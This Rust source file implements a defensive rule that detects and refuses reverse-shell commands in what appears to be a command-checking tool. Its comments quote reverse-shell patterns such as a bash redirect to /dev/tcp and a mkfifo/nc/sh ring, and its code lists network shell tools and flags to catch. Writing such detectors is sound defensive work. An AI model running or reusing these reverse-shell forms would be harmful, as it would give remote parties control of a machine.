//! A shell for somebody else: `shell/reverse-shell`.

use model::{Event, Findings, Meta};
use shell::Call;

use crate::{Check, Context};

static META: Meta = super::guard(
    "shell/reverse-shell",
    "a shell that is handed to the network",
    "\
Refuses shells whose input and output go to the network: `bash -i >& /dev/tcp/…`, `nc -e`, `socat exec:`, a fifo between `nc` and a
shell, and sockets joined to a shell in Python, Perl, PHP, Ruby or Node. `nc -z` to see whether a port is open passes.
",
    include_str!("reverse_shell.toml"),
);

pub(crate) struct Rule;

impl Check for Rule {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn run(&self, event: &Event, cx: &Context<'_>, out: &mut Findings) {
        let Some(reading) = cx.reading(event) else { return };
        let joined = reading.unseen.iter().any(|unseen| unseen.by == "reverse shell");
        if joined || reading.calls.iter().any(gives_shell) || by_fifo(&reading.calls) {
            out.deny(
                META.id,
                "This gives a shell on this machine to the network.".into(),
                "Whoever is there could do anything.",
            )
            .instead = Some("Use ssh with keys that the person has set up.".into());
        }
    }
}

/// `mkfifo f; cat f | sh -i | nc host port > f`: the pieces are harmless, the ring is not.
fn by_fifo(calls: &[Call]) -> bool {
    let any = |names: &[&str]| calls.iter().any(|call| names.contains(&call.program()));
    any(&["mkfifo", "mknod"])
        && any(&["nc", "ncat", "netcat", "telnet", "openssl", "socat"])
        && any(&["sh", "bash", "zsh", "dash", "ksh"])
}

fn gives_shell(call: &Call) -> bool {
    let network = |text: &str| text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/");
    let program = call.program();
    let is_shell = matches!(program, "bash" | "sh" | "zsh" | "dash" | "ksh" | "exec");
    if is_shell && call.redirects.iter().any(|r| network(&r.target.text)) {
        return true;
    }
    // A shell that runs whatever it is told, on its way to somebody.
    let sends = matches!(
        program,
        "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl" | "curl" | "wget" | "ssh"
    );
    if program == "ztcp"
        || (sends && call.stdin.as_deref().is_some_and(|text| text.contains(shell::text::SHELL)))
    {
        return true;
    }
    let shell_word = |text: &str| {
        matches!(
            shell::path::name(text),
            "sh" | "bash" | "zsh" | "dash" | "cmd.exe" | "powershell.exe" | "ksh"
        )
    };
    match program {
        "nc" | "ncat" | "netcat" | "nc.traditional" => {
            let args = call.args();
            let executes = args.iter().enumerate().any(|(i, a)| {
                let cluster = a.text.starts_with('-')
                    && !a.text.starts_with("--")
                    && (a.text.ends_with('e') || a.text.ends_with('c'));
                (cluster || matches!(a.text.as_str(), "--exec" | "--sh-exec"))
                    && args
                        .get(i + 1)
                        .is_some_and(|next| next.text.split_whitespace().next().is_some_and(shell_word))
            });
            executes
                || args.iter().any(|a| {
                    a.text
                        .strip_prefix("--exec=")
                        .or(a.text.strip_prefix("--sh-exec="))
                        .is_some_and(|t| shell_word(t.split_whitespace().next().unwrap_or("")))
                })
        }
        "socat" => {
            call.texts().any(|t| {
                t.to_ascii_lowercase().starts_with("exec:") || t.to_ascii_lowercase().starts_with("system:")
            }) && call.texts().any(|t| {
                let t = t.to_ascii_lowercase();
                t.starts_with("tcp") || t.starts_with("udp") || t.starts_with("openssl")
            })
        }
        "openssl" => {
            call.has("s_client")
                && call.stdin.is_some()
                && call.redirects.iter().any(|r| r.target.text.contains("/tmp/"))
        }
        // `mkfifo f; cat f | sh -i | nc host port > f`
        _ => {
            is_shell
                && call.has("-i")
                && call.stdin.as_deref().is_some_and(|text| text.contains(shell::text::NET))
        }
    }
}
